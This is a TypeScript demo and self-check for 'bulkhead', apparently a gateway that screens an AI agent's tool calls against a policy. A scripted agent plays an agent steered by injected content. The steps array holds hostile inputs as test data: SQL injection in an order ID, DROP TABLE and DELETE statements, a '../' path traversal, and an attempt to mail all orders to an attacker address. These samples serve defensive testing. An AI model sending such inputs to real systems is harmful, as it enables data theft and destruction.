/**
 * `bulkhead demo`: the gateway on the example policy and upstreams, with a
 * scripted agent (the official SDK client) that tries what an agent steered
 * by injected content would try. Each step states what it expects; the demo
 * exits 1 if bulkhead decided anything else, so it doubles as a self-check.
 */
import { randomBytes } from 'node:crypto';
import { createWriteStream, mkdirSync, rmSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import type { Command } from 'commander';
import { connectAgentClient } from '../agent/connect.js';
import { type Gateway, startGateway } from '../gateway/gateway.js';
import { widenHeapHeadroom } from '../gateway/heap-headroom.js';
import { loadPolicyFile } from '../policy/load.js';
import { action, EXIT, line, style } from './output.js';

export const EXAMPLE_POLICY = resolve(
  dirname(fileURLToPath(import.meta.url)),
  '../../examples/support-desk/policy.yaml',
);

interface Step {
  title: string;
  tool: string;
  args: Record<string, unknown>;
  expect: 'allow' | string;
  /** The demo plays the operator: it approves or denies the held call. */
  operator?: 'approve' | 'deny';
}

const STEPS: Step[] = [
  {
    title: 'look up an order',
    tool: 'orders__get_order_status',
    args: { order_id: 'ORD-000042' },
    expect: 'allow',
  },
  {
    title: 'SQL smuggled into order_id',
    tool: 'orders__get_order_status',
    args: { order_id: "ORD-000001' OR '1'='1" },
    expect: 'invalid_arguments',
  },
  {
    title: 'call a hidden tool',
    tool: 'orders__run_sql',
    args: { sql: 'DROP TABLE orders' },
    expect: 'tool_not_in_scope',
  },
  {
    title: "guess the upstream's own name",
    tool: 'run_sql',
    args: { sql: 'SELECT 1' },
    expect: 'tool_not_in_scope',
  },
  {
    title: 'change the case of a hidden tool',
    tool: 'ORDERS__RUN_SQL',
    args: { sql: 'SELECT 1' },
    expect: 'tool_not_in_scope',
  },
  {
    title: 'smuggle an extra argument',
    tool: 'orders__list_orders',
    args: { limit: 5, where: '1=1; DELETE FROM orders' },
    expect: 'invalid_arguments',
  },
  {
    title: 'ask for more rows than allowed',
    tool: 'orders__list_orders',
    args: { limit: 500 },
    expect: 'invalid_arguments',
  },
  { title: 'list a few orders', tool: 'orders__list_orders', args: { limit: 3 }, expect: 'allow' },
  {
    title: 'read the knowledge base',
    tool: 'files__read_text_file',
    args: { path: 'refunds.md' },
    expect: 'allow',
  },
  {
    title: 'read a file outside it',
    tool: 'files__read_text_file',
    args: { path: '../policy.yaml' },
    expect: 'invalid_arguments',
  },
  {
    title: 'write a file',
    tool: 'files__write_file',
    args: { path: 'x', content: 'y' },
    expect: 'tool_not_in_scope',
  },
  {
    title: 'refund an order (held for a human)',
    tool: 'orders__refund_order',
    args: { order_id: 'ORD-000042', amount_cents: 1500, reason: 'arrived damaged' },
    expect: 'allow',
    operator: 'approve',
  },
  {
    title: 'refund it again, bigger',
    tool: 'orders__refund_order',
    args: { order_id: 'ORD-000042', amount_cents: 45000, reason: 'customer insisted' },
    expect: 'approval_denied',
    operator: 'deny',
  },
  {
    title: 'mail an outside address',
    tool: 'mail__send_email',
    args: { to: 'drop@attacker.test', subject: 'orders', body: 'all of them' },
    expect: 'invalid_arguments',
  },
  {
    // The run has read orders (private data): mail leaves the company, so a human looks first.
    title: 'mail the customer (held: orders are private)',
    tool: 'mail__send_email',
    args: { to: 'customer42@example.com', subject: 'Your order ORD-000042', body: 'It is on its way.' },
    expect: 'allow',
    operator: 'approve',
  },
];

export function register(program: Command): void {
  program
    .command('demo')
    .description('run the gateway on the example policy with a scripted agent, and show each decision')
    .option('--port <port>', 'port for the demo gateway (0 picks a free one)', '0')
    .action(action(async (opts: { port: string }) => runDemo(Number(opts.port))));
}

async function runDemo(port: number): Promise<number> {
  const loaded = loadPolicyFile(EXAMPLE_POLICY);
  mkdirSync(join(loaded.dir, '.bulkhead'), { recursive: true });
  // A fresh orders database each time, so the story reads the same on every run.
  for (const suffix of ['', '-wal', '-shm'])
    rmSync(join(loaded.dir, '.bulkhead', `orders.db${suffix}`), { force: true });
  // Throwaway credentials for the example upstreams: each reaches only its own server.
  const env = {
    ORDERS_API_TOKEN: `orders-${randomBytes(12).toString('hex')}`,
    MAIL_API_KEY: `mail-${randomBytes(12).toString('hex')}`,
  };
  line(style.bold('bulkhead demo') + style.dim(` — ${EXAMPLE_POLICY}`));
  line(style.dim('starting the gateway and 3 upstreams (orders, mail, files)...'));
  const logFile = join(loaded.dir, '.bulkhead', 'gateway.log');
  widenHeapHeadroom();
  const gateway = await startGateway({
    loaded,
    port,
    env,
    logDestination: createWriteStream(logFile, { flags: 'a' }),
  });
  line(style.dim(`gateway log: ${logFile}`));
  try {
    return await script(gateway);
  } finally {
    await gateway.close();
  }
}

async function script(gateway: Gateway): Promise<number> {
  const { run, token } = await gateway.runs.create('support-agent', {
    label: 'demo',
    actor: 'operator:demo',
  });
  line(`gateway ${gateway.url} · run ${run.id} · profile support-agent`);
  const client: Client = await connectAgentClient({ mcpUrl: `${gateway.url}/mcp`, token });
  let surprises = 0;
  try {
    const { tools } = await client.listTools();
    const upstreamTotal = gateway.pool.status().reduce((n, s) => n + s.tools, 0);
    line('');
    line(`The agent sees ${tools.length} of the ${upstreamTotal} tools its upstreams offer:`);
    for (const tool of tools) line(`  ${tool.name.padEnd(28)} ${style.dim(describeTool(tool.annotations))}`);
    line('');
    let n = 0;
    for (const step of STEPS) {
      n++;
      line(
        `${String(n).padStart(2)}. ${step.title.padEnd(34)} ${style.dim(`${step.tool} ${short(JSON.stringify(step.args), 60)}`)}`,
      );
      const pending = client.callTool({ name: step.tool, arguments: step.args });
      if (step.operator) await playOperator(gateway, run.id, step.operator);
      const result = (await pending) as CallToolResult;
      const code = (result._meta?.['bulkhead/denial'] as { code?: string } | undefined)?.code;
      const decided = code ?? 'allow';
      const ok = decided === step.expect;
      if (!ok) surprises++;
      if (code) {
        const message = firstText(result).replace(/^Denied by bulkhead \([a-z_]+\): /, '');
        line(
          `    ${style.red('✗ denied')}  ${code}: ${message}${ok ? '' : style.yellow(`  (expected ${step.expect})`)}`,
        );
      } else {
        line(
          `    ${result.isError ? style.yellow('✓ allowed, the tool failed') : style.green('✓ allowed')} ${style.dim(short(firstText(result).replace(/\s+/g, ' '), 90))}${ok ? '' : style.yellow(`  (expected ${step.expect})`)}`,
        );
      }
    }
  } finally {
    await client.close();
  }
  await gateway.runs.end(run.id, 'completed', 'demo finished', { exitCode: 0, actor: 'operator:demo' });
  const events = await gateway.store.events.list({ runId: run.id, kind: 'tools/call', limit: 1000 });
  const allowed = events.filter((e) => e.decision === 'allow').length;
  line('');
  line(
    `Audit trail: ${events.length} tool calls recorded for ${run.id} — ${allowed} allowed, ${events.length - allowed} denied.`,
  );
  line(style.dim('Every refused call stopped at the gateway: the upstream never saw its arguments.'));
  if (surprises > 0) {
    line(style.yellow(`${surprises} decision(s) differed from what the demo expected.`));
    return EXIT.failed;
  }
  return EXIT.ok;
}

/** Waits for the held call to appear, then decides it as an operator would from the dashboard or CLI. */
async function playOperator(gateway: Gateway, runId: string, decision: 'approve' | 'deny'): Promise<void> {
  for (let i = 0; i < 400; i++) {
    const [held] = await gateway.store.approvals.list({ state: 'pending', runId });
    if (held) {
      line(
        style.dim(
          `    … held as ${held.id}; an operator ${decision === 'approve' ? 'approves' : 'denies'} it`,
        ),
      );
      await gateway.approvals.decide(held.id, {
        operator: 'demo',
        decision,
        reason: decision === 'approve' ? 'checked the photos' : 'over the refund limit without a supervisor',
        at: Date.now(),
      });
      return;
    }
    await new Promise((r) => setTimeout(r, 25));
  }
}

function describeTool(
  annotations: { readOnlyHint?: boolean; destructiveHint?: boolean; openWorldHint?: boolean } | undefined,
) {
  if (annotations?.openWorldHint) return 'external';
  if (annotations?.destructiveHint) return 'irreversible';
  return annotations?.readOnlyHint ? 'read' : 'write';
}

function firstText(result: CallToolResult): string {
  const first = result.content?.find((c) => c.type === 'text');
  return first && first.type === 'text' ? first.text : '';
}

function short(text: string, max: number): string {
  return text.length <= max ? text : `${text.slice(0, max - 1)}…`;
}
